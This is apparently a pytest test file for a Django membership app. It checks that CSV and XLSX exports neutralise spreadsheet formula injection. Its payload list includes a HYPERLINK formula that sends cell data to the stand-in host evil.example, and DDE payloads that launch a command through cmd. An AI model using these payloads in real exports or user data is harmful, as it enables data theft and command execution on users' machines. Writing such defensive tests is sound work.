"""Formula injection in exports (issue 10, item 3): values a member typed that start with `=`,
`+`, `-`, `@`, a tab or a carriage return reach the member, Lagebild and registration exports
as inert text — in CSV with a leading apostrophe (OWASP), in XLSX as string cells, never as
formulas."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from hafennetz.meetings.models import Meeting, Registration
from hafennetz.members.models import Member
from hafennetz.situation.models import Answer, SituationReport

from .matrix.common import login

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # A bare carriage return inside a text: spreadsheet programs start a new row there, so the
    # rest must not land unquoted at the start of a cell.
    "Detmold\r=2+3",
    "Detmold\n@SUM(1+1)",
]
IDS = ["equals", "plus", "minus", "at", "tab", "cr", "inner-cr", "inner-lf"]


def _office() -> Client:
    client = Client()
    login(client, "office")
    return client


def _csv_cells(response: Any) -> list[list[str]]:
    """The cells of a `.csv` (German Excel: semicolons) or `.komma.csv` (commas) download."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    delimiter = "," if "-komma.csv" in response["Content-Disposition"] else ";"
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _xlsx_cells(response: Any) -> list[Any]:
    assert response.status_code == 200, response.status_code
    workbook = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


def _core(payload: str) -> str:
    """The payload without the control characters an XLSX cannot hold."""
    return payload.replace("\r", "")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_csv_neutralised(cells: list[list[str]], payload: str) -> None:
    found = [cell for row in cells for cell in row if payload in cell]
    assert found, f"{payload!r} is not in the export (as one cell)"
    for cell in found:
        assert cell.startswith("'") or not cell.startswith(FORMULA), f"CSV cell {cell!r}"
    # No cell anywhere (e.g. the rest of a text after a line break) starts like a formula.
    for row in cells:
        for cell in row:
            assert not cell.startswith(FORMULA) or _is_number(cell), f"CSV cell {cell!r}"


def _assert_xlsx_inert(cells: list[Any], payload: str) -> None:
    found = [c for c in cells if isinstance(c.value, str) and _core(payload) in c.value]
    assert found, f"{payload!r} is not in the workbook"
    for cell in found:
        assert cell.data_type == "s", f"{cell.coordinate} {cell.value!r}: type {cell.data_type}"
    formulas = [c for c in cells if c.data_type == "f"]
    assert not formulas, [c.value for c in formulas]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_member_export(payload: str) -> None:
    member = Member.objects.get(municipality_id="05766020")
    member.name = payload
    member.save(update_fields=["name"])
    client = _office()
    _assert_csv_neutralised(_csv_cells(client.get("/verwaltung/export.csv")), payload)
    _assert_csv_neutralised(_csv_cells(client.get("/verwaltung/export.komma.csv")), payload)
    _assert_xlsx_inert(_xlsx_cells(client.get("/verwaltung/export.xlsx")), payload)


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_lagebild_export(payload: str) -> None:
    report = (
        SituationReport.objects.filter(round__number=3, is_current=True, answers__isnull=False)
        .order_by("pk")
        .first()
    )
    assert report is not None, "the demo data has reports with answers in round 3"
    answer = Answer.objects.filter(report=report).order_by("pk").first()
    assert answer is not None
    answer.what_is_hard = payload
    answer.what_works = payload
    answer.save(update_fields=["what_is_hard", "what_works"])
    client = _office()
    _assert_csv_neutralised(_csv_cells(client.get("/lagebild/runden/3/export.csv")), payload)
    _assert_csv_neutralised(_csv_cells(client.get("/lagebild/runden/3/export.komma.csv")), payload)
    _assert_xlsx_inert(_xlsx_cells(client.get("/lagebild/runden/3/export.xlsx")), payload)


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS, ids=IDS)
def test_registration_export(payload: str) -> None:
    registration = Registration.objects.order_by("pk").first()
    assert registration is not None, "the demo data has registrations"
    meeting: Meeting = registration.meeting
    user = registration.user
    user.first_name, user.last_name = payload, payload
    user.save(update_fields=["first_name", "last_name"])
    if meeting.question_list:
        registration.answers = [payload] * len(meeting.question_list)
        registration.save(update_fields=["answers"])
    client = _office()
    base = f"/treffen/{meeting.pk}/anmeldungen"
    _assert_csv_neutralised(_csv_cells(client.get(base + ".csv")), payload)
    _assert_csv_neutralised(_csv_cells(client.get(base + ".komma.csv")), payload)
    _assert_xlsx_inert(_xlsx_cells(client.get(base + ".xlsx")), payload)
